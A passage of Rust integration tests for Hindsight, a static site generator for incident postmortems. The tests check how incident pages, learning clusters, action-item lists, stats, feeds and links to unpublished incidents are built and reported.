    let inc = site.incident("PM2024-001");
    assert_eq!(inc["tags"], serde_json::json!(["ok"]), "{inc:#}");
    assert_eq!(inc["services"], serde_json::json!([]), "{inc:#}");
    assert_eq!(inc["summary"], "The queue stalled for an hour.", "{inc:#}");
    let feed = site.page("feed.xml");
    assert!(!feed.contains("term=\"\""), "{feed}");
    assert!(!feed.contains("<name></name>"), "{feed}");
    assert!(feed.contains("<name>Jane</name>"), "{feed}");
    let text = site.text("incidents/PM2024-001/index.html");
    assert!(!text.contains("Jane,"), "{text}");
    assert!(text.contains("The queue stalled for an hour."), "{text}");
    let filters = read_json(&site.out.join("search/index.json"))["filters"].clone();
    assert_eq!(filters["tags"], serde_json::json!([["ok", 1]]), "{filters}");
    assert_eq!(filters["services"], serde_json::json!([]), "{filters}");
    // `check` warns of each where it is written.
    let (_, findings) = check_json(&site.root, &[]);
    let empty: Vec<_> = findings
        .iter()
        .filter(|f| f["rule"] == "empty-item")
        .map(|f| {
            assert_eq!(f["level"], "warning");
            assert!(f["hint"].as_str().unwrap().contains("remove"), "{f}");
            (f["line"].as_u64().unwrap(), f["column"].as_u64().unwrap())
        })
        .collect();
    assert_eq!(empty, [(5, 8), (6, 12), (7, 19)], "{findings:#?}");
}

#[test]
fn stats_by_year_ends_with_an_undated_row_and_a_year_only_incident_shows_its_year_once() {
    let site = Site::with(&[
        (
            "content/2024-03-01-dated.md",
            "# Dated\n\n## Summary\n\nThe queue stalled.\n",
        ),
        (
            "content/PM2020-003 - year only.md",
            "# Year only\n\n## Summary\n\nThe disk filled up.\n",
        ),
        ("content/undated.md", "# Undated\n\nIt broke.\n"),
    ]);
    site.build_ok();
    let page = site.page("stats/index.html");
    let table = &page[page.find("id=\"years-h\"").unwrap()..];
    let table = &table[..table.find("</table>").unwrap()];
    let rows: Vec<String> = table
        .split("<tr>")
        .skip(2)
        .map(|r| squeeze(&html_text(&r.replace("</t", " </t"))))
        .collect();
    assert_eq!(
        rows,
        ["2020 1 – –", "2024 1 – –", "Undated 1 – –"],
        "{table}"
    );
    let text = site.text("incidents/PM2020-003/index.html");
    let page = site.page("incidents/PM2020-003/index.html");
    let once = "<dd><a href=\"../../years/2020/\"><time datetime=\"2020\">2020</time></a></dd>";
    assert!(page.contains(once), "{page}");
    assert!(!text.contains("2020 · 2020"), "{text}");
}

#[test]
fn in_a_drafts_build_an_internal_incident_carries_an_internal_chip_as_a_draft_carries_a_draft_chip()
{
    let site = Site::with(&[
        (
            "content/yak.md",
            "---\nid: INTERNAL-YAK\ntitle: Yak\ndate: 2024-01-01\nvisibility: internal\n---\n\nText.\n",
        ),
        (
            "content/draft.md",
            "---\nid: DRAFT-1\ntitle: Draft\ndate: 2024-01-02\nstatus: draft\n---\n\nText.\n",
        ),
        (
            "content/public.md",
            "---\nid: PUB-1\ntitle: Public\ndate: 2024-01-03\n---\n\nText.\n",
        ),
    ]);
    build_drafts_ok(&site.root, &site.out);
    let chips = |id: &str| {
        let page = site.page(&format!("incidents/{id}/index.html"));
        page.split("<span class=\"chip chip-warn\">")
            .skip(1)
            .map(|s| s[..s.find('<').unwrap()].to_string())
            .collect::<Vec<_>>()
    };
    assert_eq!(chips("INTERNAL-YAK"), ["internal"]);
    assert_eq!(chips("DRAFT-1"), ["draft"]);
    assert!(chips("PUB-1").is_empty());
}

#[test]
fn a_clusters_exported_title_is_the_whole_title_its_page_shows_not_the_one_cut_for_lists() {
    let site = Site::fixture("dfds");
    site.build_ok();
    let learnings = read_json(&site.out.join("api/learnings.json"));
    let clusters: Vec<&serde_json::Value> = learnings
        .as_array()
        .unwrap()
        .iter()
        .filter(|l| l["canonical"] == false)
        .collect();
    let mut long = 0;
    for l in &clusters {
        let id = l["id"].as_str().unwrap();
        let title = l["title"].as_str().unwrap();
        let page = site.page(&format!("learnings/{id}/index.html"));
        let h1 = page
            .split("<h1>")
            .nth(1)
            .unwrap()
            .split("</h1>")
            .next()
            .unwrap();
        let h1 = html_text(h1)
            .replace("&#39;", "'")
            .replace("&quot;", "\"")
            .replace("&lt;", "<")
            .replace("&gt;", ">")
            .replace("&amp;", "&");
        assert_eq!(h1, title, "{id}");
        assert!(!title.ends_with('…'), "{id}: {title}");
        if title.chars().count() > 90 {
            long += 1;
        }
    }
    // Titles longer than a list shows are what this is about: dfds has some.
    assert!(
        long > 0,
        "no cluster title of dfds is longer than 90 characters"
    );
}

#[test]
fn links_to_the_home_page_and_the_reading_path_lead_to_their_built_pages_under_the_base_path() {
    let site = Site::with(&[
        ("hindsight.toml", "base_url = \"https://kb.example.org/pm/\"\n"),
        (
            "content/postmortems/2024-03-01-disk-full.md",
            "# Disk full\n\n## Summary\n\nThe disk filled up. See [the intro](../index.md#how-we-write), \
             [the path](../onboarding.md), [home](/), [week one](/onboarding/#week-one) and \
             [the drills](../onboarding.md#-fire-drills).\n",
        ),
        (
            "content/index.md",
            "# Welcome\n\n## How we write\n\nNew here? Start with [the onboarding path](onboarding.md), \
             [its first week](onboarding.md#week-one), [this](index.md#how-we-write) or [home](/).\n",
        ),
        (
            "content/onboarding.md",
            "# Start here\n\n## Week one\n\n## 🔥 Fire drills\n\nRead [the home page](index.md), \
             [how we write](/#how-we-write) and [the drills](#-fire-drills).\n",
        ),
    ]);
    site.build_ok();
    let hrefs = |path: &str| -> Vec<String> {
        let page = site.page(path);
        let body = page
            .split("class=\"prose")
            .nth(1)
            .unwrap_or(&page)
            .to_string();
        body.split("<a href=\"")
            .skip(1)
            .map(|s| s.split('"').next().unwrap().to_string())
            .collect()
    };
    let incident = hrefs("incidents/2024-03-01-disk-full/index.html");
    for href in [
        "../../#how-we-write",
        "../../onboarding/",
        "../../",
        "../../onboarding/#week-one",
        "../../onboarding/#fire-fire-drills",
    ] {
        assert!(incident.iter().any(|h| h == href), "{href}: {incident:?}");
    }
    let home = hrefs("index.html");
    for href in ["onboarding/", "onboarding/#week-one", "#how-we-write", "./"] {
        assert!(home.iter().any(|h| h == href), "{href}: {home:?}");
    }
    let onboarding = hrefs("onboarding/index.html");
    for href in ["../", "../#how-we-write", "#fire-fire-drills"] {
        assert!(
            onboarding.iter().any(|h| h == href),
            "{href}: {onboarding:?}"
        );
    }
    for page in [&incident, &home, &onboarding] {
        assert!(!page.iter().any(|h| h.contains(".md")), "{page:?}");
    }
}

#[test]
fn build_warns_of_a_related_id_of_a_draft_or_internal_postmortem_where_it_is_written_as_check_does()
{
    let pm = |id: &str, extra: &str| {
        format!("---\nid: {id}\ntitle: Outage {id}\ndate: 2024-03-01\n{extra}---\n\n## Summary\n\nText.\n")
    };
    let site = Site::with(&[
        (
            "content/a.md",
            &pm(
                "PM2024-001",
                "related: [PM2024-002, PM2024-003, PM2023-555, PM2024-004]\n",
            ),
        ),
        (
            "content/b.md",
            &pm("PM2024-002", "status: draft\naliases: [PM2023-555]\n"),
        ),
        ("content/c.md", &pm("PM2024-003", "visibility: internal\n")),
        ("content/d.md", &pm("PM2024-004", "")),
    ]);
    let o = site.build();
    assert!(o.status.success(), "{}", stderr(&o));
    let said = stderr(&o);
    for (column, id, why) in [
        (11, "PM2024-002", "a draft"),
        (23, "PM2024-003", "internal"),
        (35, "PM2023-555", "a draft"),
    ] {
        assert!(
            said.contains(&format!("content/a.md:5:{column}")),
            "{id}: {said}"
        );
        assert!(
            said.contains(&format!(
                "`related` names `{id}`, which is {why} and will not be on the published site: the page does not list it"
            )),
            "{id}: {said}"
        );
    }
    assert_eq!(
        said.matches("will not be on the published site").count(),
        3,
        "{said}"
    );
    // `check` reports the same entries.
    let (_, findings) = check_json(&site.root, &[]);
    let checked: Vec<_> = findings
        .iter()
        .filter(|f| f["rule"] == "link-to-unpublished")
        .map(|f| (f["line"].as_u64().unwrap(), f["column"].as_u64().unwrap()))
        .collect();
    assert_eq!(checked, [(5, 11), (5, 23), (5, 35)], "{findings:#?}");
}

#[test]
fn a_full_url_of_the_sites_page_of_an_unpublished_incident_is_its_text_alone_with_a_warning() {
    let pm = |id: &str, extra: &str, body: &str| {
        format!("---\nid: {id}\ntitle: Outage {id}\ndate: 2024-03-01\n{extra}---\n\n## Summary\n\n{body}\n")
    };
    let body = "See [the breach](https://kb.example.org/pm/incidents/I-1/#timeline), \
                [in plain http](http://KB.example.org/pm/incidents/I-1/), \
                [the draft](https://kb.example.org/pm/incidents/D-1/) and \
                [the other one](https://kb.example.org/pm/incidents/P-2/).\n\n\
                Raw: <a href=\"https://kb.example.org/pm/incidents/I-1/\">html link</a>; \
                [elsewhere](https://other.example.org/pm/incidents/I-1/).";
    let site = Site::with(&[
        (
            "hindsight.toml",
            "base_url = \"https://kb.example.org/pm/\"\n",
        ),
        ("content/p-1.md", &pm("P-1", "", body)),
        ("content/p-2.md", &pm("P-2", "", "Text.")),
        ("content/d-1.md", &pm("D-1", "status: draft\n", "Text.")),
        (
            "content/i-1.md",
            &pm("I-1", "visibility: internal\n", "Text."),
        ),
    ]);
    let o = site.build();
    assert!(o.status.success(), "{}", stderr(&o));
    let said = stderr(&o);
    assert_eq!(
        said.matches("will not be on the published site").count(),
        4,
        "{said}"
    );
    let page = site.page("incidents/P-1/index.html");
    for gone in [
        "kb.example.org/pm/incidents/I-1/",
        "kb.example.org/pm/incidents/D-1/",
        "KB.example.org",
    ] {
        assert!(!page.contains(gone), "{gone}: {page}");
    }
    assert!(
        site.text("incidents/P-1/index.html").contains(
            "See the breach, in plain http, the draft and the other one. Raw: html link; elsewhere."
        ),
        "{page}"
    );
    // A published page's full URL, and another site's, stay as written.
    assert!(
        page.contains("href=\"https://kb.example.org/pm/incidents/P-2/\""),
        "{page}"
    );
    assert!(
        page.contains("href=\"https://other.example.org/pm/incidents/I-1/\""),
        "{page}"
    );
    let (_, findings) = check_json(&site.root, &[]);
    let checked: Vec<_> = findings
        .iter()
        .filter(|f| f["rule"] == "link-to-unpublished")
        .map(|f| f["message"].as_str().unwrap())
        .collect();
    assert_eq!(checked.len(), 4, "{findings:#?}");
    assert!(
        checked[0].starts_with("link to `I-1`, which is internal"),
        "{checked:?}"
    );
}

#[test]
fn the_learnings_index_lists_each_learning_seen_in_one_incident_after_the_recurring_ones_and_stats_links_there(
) {
    let site = Site::with(&[
        (
            "content/a.md",
            "---\ndate: 2024-03-01\nlearnings:\n  - id: own-what-you-run\n    text: Nobody owned the job.\n  - Dashboards should show free inodes.\n---\n# Disk full\n\nText.\n",
        ),
        (
            "content/b.md",
            "---\ndate: 2024-04-01\nlearnings:\n  - id: own-what-you-run\n    text: Nobody owned the cron.\n  - id: alert-on-symptoms\n    text: Customers told us first.\n---\n# Certificate expired\n\nText.\n",
        ),
        (
            "content/learnings/own-what-you-run.md",
            "# Own what you run\n\nEvery job has an owner.\n",
        ),
        (
            "content/learnings/alert-on-symptoms.md",
            "# Alert on symptoms\n\nPage on what customers feel.\n",
        ),
    ]);
    site.build_ok();
    let page = site.page("learnings/index.html");
    let once = &page[page.find("id=\"once-h\"").expect(&page)..];
    assert!(
        once.starts_with("id=\"once-h\">Seen in one incident <span class=\"count\">2</span>"),
        "{once}"
    );
    // Newest incident first; a canonical learning links to its page, a learning of no group is
    // plain text; each names on a line below its incident, which links to what it learned, its
    // id and date.
    let canonical = once
        .find("<li><p class=\"once-text\"><a href=\"../learnings/alert-on-symptoms/\">Alert on symptoms</a></p>\n      <p class=\"once-from\">In <a href=\"../incidents/b/#learned-h\">Certificate expired</a> · <span class=\"id\">b</span> · <time datetime=\"2024-04-01\">2024-04-01</time></p></li>")
        .expect(once);
    let alone = once
        .find("<li><p class=\"once-text\">Dashboards should show free inodes.</p>\n      <p class=\"once-from\">In <a href=\"../incidents/a/#learned-h\">Disk full</a> · <span class=\"id\">a</span> · <time datetime=\"2024-03-01\">2024-03-01</time></p></li>")
        .expect(once);
    assert!(
        once.contains("<p class=\"muted\">Newest incident first. No other incident states or addresses these: none cites the same canonical learning, and Hindsight found none that says the same in other words. A learning with a page of its own links to it.</p>"),
        "{once}"
    );
    assert!(canonical < alone, "{once}");
    assert!(!once.contains("own-what-you-run"), "{once}");
    let stats = site.page("stats/index.html");
    assert!(
        stats.contains(
            "<a href=\"../learnings/#once-h\">2 of them were seen in one incident only</a>"
        ),
        "{stats}"
    );
    // In the dfds corpus too, the section lists as many as /stats/ counts.
    let dfds = Site::fixture("dfds");
    dfds.build_ok();
    let page = dfds.page("learnings/index.html");
    let once = &page[page.find("id=\"once-h\"").expect(&page)..];
    assert!(
        once.starts_with("id=\"once-h\">Seen in one incident <span class=\"count\">33</span>"),
        "{once}"
    );
    assert_eq!(
        once.matches("<li><p class=\"once-text\">").count(),
        33,
        "{once}"
    );
    let stats = dfds.page("stats/index.html");
    assert!(
        stats.contains(">33 of them were seen in one incident only</a>"),
        "{stats}"
    );
}

#[test]
fn the_headline_counts_say_how_many_action_items_have_no_status_and_what_learned_again_means_in_plain_words(
) {
    let dfds = Site::fixture("dfds");
    dfds.build_ok();
    let home = dfds.page("index.html");
    // 0 open reads as all done unless the 128 of no recorded status are as prominent.
    assert!(
        home.contains("<strong>0</strong> open action items<span class=\"visually-hidden\">,</span> <strong>128</strong> with no status recorded</a>"),
        "{home}"
    );
    assert!(
        home.contains("<strong>22</strong> learnings seen in more than one incident; 10 stated in two or more postmortems, 12 recurring through action items</a>"),
        "{home}"
    );
    assert!(!home.contains("learned more than once"), "{home}");
    let stats = dfds.page("stats/index.html");
    assert!(
        stats.contains("<li><strong>0</strong> open action items<span class=\"visually-hidden\">,</span> <strong>128</strong> with no status recorded, 1 done, 0 won't fix</li>"),
        "{stats}"
    );
    // One name for what was done, on the overview as on the learnings' rows.
    let out = tempfile::tempdir().unwrap();
    build_ok(repo(), out.path());
    let home = std::fs::read_to_string(out.path().join("index.html")).unwrap();
    assert!(
        home.contains("recurred after an incident whose action item is now done</a>"),
        "{home}"
    );
    assert!(home.contains("<strong class=\"flag\">Recurred after an incident whose action item is now done</strong>"), "{home}");
    assert!(!home.contains("fix is now done"), "{home}");
}

#[test]
fn the_action_items_page_groups_each_owners_items_by_incident_under_a_contents_list_of_statuses_and_owners(
) {
    let pm = |date: &str, title: &str, items: &str| {
        format!("---\ndate: {date}\n---\n# {title}\n\n## Action items\n\n{items}")
    };
    let site = Site::with(&[
        (
            "content/disk.md",
            &pm(
                "2024-03-01",
                "Disk full",
                "- [ ] Cap log size (owner: team-ops)\n- [ ] Alert on free inodes (owner: team-ops)\n- [ ] Write a runbook\n",
            ),
        ),
        (
            "content/cert.md",
            &pm(
                "2024-04-01",
                "Certificate expired",
                "- [ ] Renew certificates automatically (owner: team-ops)\n- [x] Page on expiry (owner: team-ops)\n",
            ),
        ),
    ]);
    site.build_ok();
    let list = site.page("action-items/index.html");
    // A contents list: each status, and its owners when there is more than the unassigned.
    let nav = &list[list.find("<nav class=\"jump\"").expect(&list)..];
    let nav = &nav[..nav.find("</nav>").unwrap()];
    assert!(
        nav.contains("<li><a href=\"#st-open\">Open</a> <span class=\"count\">4</span><span class=\"visually-hidden\">:</span> <span class=\"jump-owners\"><span class=\"jump-owner\"><a href=\"#open-team-ops\">team-ops</a> <span class=\"count\">3</span></span><span class=\"visually-hidden\">,</span> <span class=\"jump-owner\"><a href=\"#open-unassigned\">Unassigned</a> <span class=\"count\">1</span></span></span></li>"),
        "{nav}"
    );
    assert!(
        nav.contains("<li><a href=\"#st-done\">Done</a> <span class=\"count\">1</span><span class=\"visually-hidden\">:</span> <span class=\"jump-owners\"><span class=\"jump-owner\"><a href=\"#done-team-ops\">team-ops</a>"),
        "{nav}"
    );
    // Under an owner, its items by incident, the newest first, each incident named once with
    // its id and date.
    let open = &list
        [list.find("id=\"open-team-ops\"").unwrap()..list.find("id=\"open-unassigned\"").unwrap()];
    let heading = |id: &str, title: &str, date: &str| {
        format!("<h4 class=\"action-incident\"><a href=\"../incidents/{id}/\">{title}</a> <span class=\"id\">{id}</span> <time datetime=\"{date}\">{date}</time></h4>")
    };
    let cert = open
        .find(&heading("cert", "Certificate expired", "2024-04-01"))
        .expect(open);
    let disk = open
        .find(&heading("disk", "Disk full", "2024-03-01"))
        .expect(open);
    assert!(cert < disk, "{open}");
    assert_eq!(open.matches("<h4").count(), 2, "{open}");
    assert!(
        open[cert..disk].contains("Renew certificates automatically"),
        "{open}"
    );
    assert!(
        open[disk..].contains("Cap log size") && open[disk..].contains("Alert on free inodes"),
        "{open}"
    );
    // The incident is in the heading, not repeated on each item.
    assert_eq!(
        list.matches("href=\"../incidents/disk/\"").count(),
        2,
        "{list}"
    );
}

#[test]
fn each_row_of_the_incidents_list_shows_its_severity_summary_and_services_so_rows_of_one_title_differ(
) {
    let pm = |date: &str, sev: &str, services: &str, summary: &str| {
        format!("---\ndate: {date}\nseverity: {sev}\nservices: [{services}]\nsummary: {summary}\n---\n# All services returning 503\n\nText.\n")
    };
    let site = Site::with(&[
        (
            "content/a.md",
            &pm(
                "2021-06-22",
                "SEV1",
                "ingress",
                "Target groups came off the load balancer.",
            ),
        ),
        (
            "content/b.md",
            &pm(
                "2021-07-02",
                "SEV2",
                "coredns, ingress",
                "DNS timed out under load.",
            ),
        ),
    ]);
    site.build_ok();
    let list = site.page("incidents/index.html");
    let row = |id: &str| {
        let start = list
            .find(&format!("<a href=\"../incidents/{id}/\">"))
            .expect(&list);
        let start = list[..start].rfind("<li class=\"row\">").unwrap();
        list[start..start + list[start..].find("</li>").unwrap()].to_string()
    };
    let a = row("a");
    assert!(
        a.contains("<span class=\"sev sev-sev1\">SEV1</span>"),
        "{a}"
    );
    assert!(
        a.contains("<p class=\"row-summary\">Target groups came off the load balancer.</p>"),
        "{a}"
    );
    assert!(
        a.contains("<p class=\"row-services\"><span class=\"visually-hidden\">Services: </span><span class=\"chip\">ingress</span></p>"),
        "{a}"
    );
    let b = row("b");
    assert!(
        b.contains("<p class=\"row-summary\">DNS timed out under load.</p>"),
        "{b}"
    );
    assert!(
        b.contains("<span class=\"chip\">coredns</span><span class=\"visually-hidden\">, </span><span class=\"chip\">ingress</span>"),
        "{b}"
    );
}

#[test]
fn the_severity_index_shows_colour_coded_badges_and_each_index_count_is_inside_its_pill() {
    let site = Site::with(&[
        (
            "content/a.md",
            "---\nid: A-1\ntitle: Disk full\nseverity: SEV1\ntags: [dns]\nservices: [api]\n---\n\nText.\n",
        ),
        (
            "content/b.md",
            "---\nid: B-1\ntitle: Slow\nseverity: SEV1\ntags: [dns]\nservices: [api]\n---\n\nText.\n",
        ),
    ]);
    site.build_ok();
    let page = site.page("severity/index.html");
    let terms = page.split("<ul class=\"terms\">").nth(1).unwrap();
    assert!(
        terms.contains(
            "<a href=\"../severity/sev1/\"><span class=\"sev sev-sev1\">SEV1</span> <span class=\"count\">2<span class=\"visually-hidden\"> incidents</span></span></a>"
        ),
        "{terms}"
    );
    for index in ["tags", "services"] {
        let page = site.page(&format!("{index}/index.html"));
        let terms = page.split("<ul class=\"terms\">").nth(1).unwrap();
        let li = terms.split("</li>").next().unwrap();
        // The count is part of the link, and reads as a number of incidents.
        assert!(
            li.ends_with("<span class=\"count\">2<span class=\"visually-hidden\"> incidents</span></span></a>"),
            "{index}: {li}"
        );
        assert!(!li.contains("class=\"sev"), "{index}: {li}");
    }
}

#[test]
fn a_postmortem_s_own_action_items_heading_is_named_apart_from_the_panel_in_the_contents_list() {
    let site = Site::with(&[(
        "content/a.md",
        "---\nid: A-1\ntitle: Disk full\n---\n\n## Summary\n\nThe disk filled.\n\n\
         ## What we learned\n\n- Disks fill up when nobody watches them.\n\n\
         ## Timeline\n\n- 10:00 full\n\n## 5. Action Items\n\n- [ ] Alert on disk usage (owner: ops)\n",
    )]);
    site.build_ok();
    let page = site.page("incidents/A-1/index.html");
    let toc = page
        .split("<nav class=\"toc\"")
        .nth(1)
        .unwrap()
        .split("</nav>")
        .next()
        .unwrap();
    let entries: Vec<String> = toc
        .split("<li")
        .skip(1)
        .map(|li| html_text(&format!("<li{li}")).trim().to_string())
        .collect();
    assert_eq!(
        entries,
        [
            "What we learned",
            "Action items",
            "Summary",
            "What we learned (as written)",
            "Timeline",
            "5. Action Items (as written)"
        ],
        "{toc}"
    );
    // The panels' names link to the panels.
    assert!(
        toc.contains("<a href=\"#actions-h\">Action items</a>"),
        "{toc}"
    );
    assert!(
        toc.contains("<a href=\"#learned-h\">What we learned</a>"),
        "{toc}"
    );
}

#[test]
fn a_title_from_the_first_heading_drops_a_postmortem_label_but_a_front_matter_title_is_kept() {
    let site = Site::with(&[
        (
            "content/QS-1 - waf.md",
            "# Postmortem: Checkout blocked by WAF rule\n\n## Summary\n\nA rule blocked checkout.\n",
        ),
        (
            "content/QS-2 - rca.md",
            "# RCA - Orders stuck\n\n## Summary\n\nOrders were stuck.\n",
        ),
        (
            "content/c.md",
            "---\nid: C-1\ntitle: \"Postmortem: kept as written\"\n---\n\n# Postmortem: not the title\n\nText.\n",
        ),
    ]);
    site.build_ok();
    assert_eq!(
        site.incident("QS-1")["title"],
        "Checkout blocked by WAF rule"
    );
    assert_eq!(site.incident("QS-2")["title"], "Orders stuck");
    assert_eq!(site.incident("C-1")["title"], "Postmortem: kept as written");
    let page = site.page("incidents/QS-1/index.html");
    assert!(
        page.contains("<title>Checkout blocked by WAF rule ·"),
        "{page}"
    );
}

#[test]
fn a_cluster_that_rests_on_one_shared_word_is_possibly_related_not_a_recurring_learning() {
    let site = Site::fixture("quayside");
    site.build_ok();
    // "limits" of the autoscaling and the database, and of the fields of a search index: one
    // word, two lessons.
    let page = site.text("learnings/scaling-limits-and-database-limits-were-configured/index.html");
    assert!(page.contains("Possibly related learnings"), "{page}");
    assert!(
        page.contains("Hindsight grouped these only on the word “limits”"),
        "{page}"
    );
    assert!(page.contains("they may be unrelated"), "{page}");
    assert!(!page.contains("Did it recur"), "{page}");
    assert!(
        !page.contains("Learning cluster · in 2 incidents"),
        "{page}"
    );
    // Not counted as recurring, but listed after the recurring ones.
    let list = site.text("learnings/index.html");
    assert!(list.contains("Recurring 32 "), "{list}");
    assert!(list.contains("Possibly related 8 "), "{list}");
    let possibly = &list[list.find("Possibly related 8 ").unwrap()..];
    assert!(
        possibly.contains("Raising the fields limit hid the problem for two years"),
        "{list}"
    );
    let home = site.text("index.html");
    assert!(
        home.contains("32 learnings seen in more than one incident"),
        "{home}"
    );
    // The export marks it, and only the clusters like it.
    let learnings = read_json(&site.out.join("api/learnings.json"));
    let tentative: Vec<&str> = learnings
        .as_array()
        .unwrap()
        .iter()
        .filter(|l| l["tentative"] == true)
        .map(|l| l["id"].as_str().unwrap())
        .collect();
    assert_eq!(
        tentative,
        [
            "support-found-out-from-twitter-before-our",
            "no-way-to-tell-depots-early-that",
            "we-have-replaced-the-old-shared-mailbox",
            "scaling-limits-and-database-limits-were-configured",
            "the-readiness-probe-turned-a-partial-problem",
            "the-business-level-alert-worked-but-took-23",
            "a-runbook-with-a-hard-coded-list-silently",
            "keep-last-three-graphs-one-command-rollback"
        ]
    );
}

#[test]
fn an_incident_page_says_a_learning_grouped_on_one_word_is_possibly_related_not_learned_before() {
    let site = Site::fixture("quayside");
    site.build_ok();
    let page = site.page("incidents/QS-2022-012/index.html");
    let learned =
        &page[page.find("id=\"learned-h\"").unwrap()..page.find("id=\"actions-h\"").unwrap()];
    let learned = squeeze(&html_text(learned));
    assert!(
        learned.contains("Possibly related: QS-2021-007 (2021): CDN errors for some EU visitors; QS-2021-011 (2021): Checkout blocked by WAF rule; QS-2023-013 (2023): Route planner sending drivers through closed roads. Hindsight grouped them only on the words “twitter”, “synthetic”, “monitoring”, “complaint”: they may be unrelated."),
        "{learned}"
    );
    assert!(
        !learned.contains("Learned before in QS-2021-011"),
        "{learned}"
    );
    assert!(!learned.contains("Also learned in"), "{learned}");
    // A related incident it brings is possibly related, never "same" or "similar learning".
    let page = site.text("incidents/QS-2021-007/index.html");
    assert!(
        page.contains(
            "possibly related learnings, alike only in the words “twitter”, “synthetic”, “monitoring”, “complaint”: support found out from Twitter before our alerts fired"
        ),
        "{page}"
    );
    assert!(
        !page.contains("similar learning: support found out from Twitter"),
        "{page}"
    );
}

#[test]
fn real_recurrences_of_the_dfds_corpus_stay_firm_and_one_word_groupings_are_possibly_related() {
    let site = Site::fixture("dfds");
    site.build_ok();
    let tentative = |id: &str| exported_learning(&site, id)["tentative"] == true;
    // The three incidents whose logs were not shipped to CloudWatch.
    assert!(!tentative("setup-alerts-for-when-logs-are-not"));
    assert!(!tentative(
        "implement-priority-classes-for-critical-workloads-it-can"
    ));
    // Unclear alert messages and unclear support agreements; asking users for more precise
    // information and continuing to attempt a NodeNotReady fix, on "continue" alone.
    assert!(tentative("rephrase-alert-messages-that-are-unclear"));
    assert!(tentative("asked-for-more-precise-information-from-users"));
    // Ingress tests and Traefik's responsibilities, on "traefik", "ingress" and "test"; the
    // monitoring of file watches, of Kyverno and of the ADFS implementation, on "monitoring"
    // and "implementation".
    assert!(tentative(
        "don-t-have-mixed-responsibilities-between-iac-components"
    ));
    assert!(tentative("setup-monitoring-and-alerting-for-file-watches"));
    // Node metrics and logs learned twice; a Traefik routing fix joins only on "investigate",
    // "using" and "metrics", so it is a loose member.
    let metrics = exported_learning(&site, "knowledge-of-useful-metrics-in-cloudwatch-haven-t");
    assert_eq!(metrics["tentative"], false);
    assert_eq!(
        metrics["possibly_related"],
        serde_json::json!(["PM2025-002"]),
        "{metrics}"
    );
    let list = site.text("learnings/index.html");
    assert!(list.contains("Recurring 22 "), "{list}");
    assert!(list.contains("Possibly related 15 "), "{list}");
    // /stats/ counts them apart from the recurring ones and from those seen once.
    let stats = site.text("stats/index.html");
    assert!(
        stats.contains("33 of them were seen in one incident only; 15 are possibly related, grouped on one word or on related words alone."),
        "{stats}"
    );
    // Every learning of dfds is a cluster: the list says so once, not on every row.
    let rows = &list[..list.find("Seen in one incident").unwrap()];
    assert!(!rows.contains(" cluster "), "{list}");
    assert!(
        list.contains("Hindsight grouped these learnings by their wording"),
        "{list}"
    );
}

#[test]
fn a_cluster_page_and_check_propose_the_same_id_for_its_lesson_keeping_the_page_address() {
    let site = Site::fixture("dfds");
    site.build_ok();
    let page = squeeze(&html_text(&site.page(
        "learnings/quickly-address-the-actions-in-postmortems-since/index.html",
    )));
    assert!(
        page.contains("To name this lesson, create learnings/follow-up-on-action-items-from-post-mortems.md with a title and a paragraph (and aliases: [quickly-address-the-actions-in-postmortems-since], so that this page's address leads to it), and cite it from each with &lt;!-- hindsight: learning follow-up-on-action-items-from-post-mortems --&gt;"),
        "{page}"
    );
    let out = check(&site.root, &["--format", "json"]);
    let text = String::from_utf8_lossy(&out.stdout);
    assert!(
        text.contains("create learnings/follow-up-on-action-items-from-post-mortems.md (a title and a paragraph, and `aliases: [quickly-address-the-actions-in-postmortems-since]` so that /learnings/quickly-address-the-actions-in-postmortems-since/ leads to it)"),
        "{text}"
    );
    // A cluster whose id reads well already is proposed as it is, with no alias.
    let page = squeeze(&html_text(
        &site.page("learnings/not-having-a-clear-way-all-iac/index.html"),
    ));
    assert!(
        page.contains("create learnings/not-having-a-clear-way-all-iac.md with a title and a paragraph, and cite"),
        "{page}"
    );
}

#[test]
fn check_proposes_no_canonical_page_for_a_cluster_on_one_shared_word() {
    let site = Site::fixture("quayside");
    let out = check(&site.root, &["--format", "json"]);
    let text = String::from_utf8_lossy(&out.stdout);
    assert!(text.contains("near-duplicate-learning"), "{text}");
    assert!(
        text.contains("learnings/there-was-no-alert-on-consumer-lag.md"),
        "{text}"
    );
    assert!(
        !text.contains("learnings/alias-swaps-are-a-cheap-and-powerful.md"),
        "{text}"
    );
}

#[test]
fn incident_and_learning_pages_name_other_incidents_by_title_and_say_what_their_marks_mean() {
    let tmp = tempfile::tempdir().unwrap();
    let out = tmp.path().join("public");
    build_ok(Path::new(env!("CARGO_MANIFEST_DIR")), &out);
    let page = std::fs::read_to_string(out.join("incidents/PM2022-002/index.html")).unwrap();
    let learned =
        &page[page.find("id=\"learned-h\"").unwrap()..page.find("id=\"actions-h\"").unwrap()];
    // Ids never break at the hyphen.
    assert!(
        learned.contains("<span class=\"id\">PM2022-001</span>"),
        "{learned}"
    );
    let learned = squeeze(&html_text(learned));
    assert!(
        learned.contains("Learned before in PM2022-001 (2022): Expired TLS certificate stopped payment webhooks from reaching Kestrel."),
        "{learned}"
    );
    assert!(
        learned.contains("Learned again later in PM2023-002 (2023): "),
        "{learned}"
    );
    assert!(!learned.contains("Also learned in"), "{learned}");
    assert!(
        learned.contains("A gold bar marks a learning that an earlier incident learned too."),
        "{learned}"
    );
    assert!(
        learned.contains("“Linked by Hindsight”: Hindsight matched the wording to that learning; the authors did not cite it."),
        "{learned}"
    );
    // One wording for the incidents of a learning, and one for how many.
    let learning = squeeze(&html_text(
        &std::fs::read_to_string(out.join("learnings/alert-on-symptoms/index.html")).unwrap(),
    ));
    assert!(
        learning.contains("Incidents linked to this 8"),
        "{learning}"
    );
    assert!(learning.contains("Learning · in 8 incidents"), "{learning}");
    assert!(!learning.contains("taught this"), "{learning}");
    assert!(!learning.contains("learned 8 times"), "{learning}");
}

#[test]
fn an_incident_page_explains_linked_by_hindsight_wherever_it_says_it() {
    let out = tempfile::tempdir().unwrap();
    build_ok(repo(), out.path());
    // PM2022-001's own learnings were cited by their authors; only an incident named in its
    // "Learned again later in" line was linked by Hindsight.
    let page = std::fs::read_to_string(out.path().join("incidents/PM2022-001/index.html")).unwrap();
    assert!(page.contains("(linked by Hindsight)"), "{page}");
    assert!(
        page.contains("“Linked by Hindsight”: Hindsight matched the wording"),
        "{page}"
    );
}

#[test]
fn an_action_item_in_a_cluster_on_one_shared_word_is_marked_possibly_related() {
    let site = Site::fixture("quayside");
    site.build_ok();
    // A phone number for a carrier's desk and a mailbox replaced by a ticket queue: "add" and
    // "contact" alone.
    let page = site.page("incidents/INC-4412/index.html");
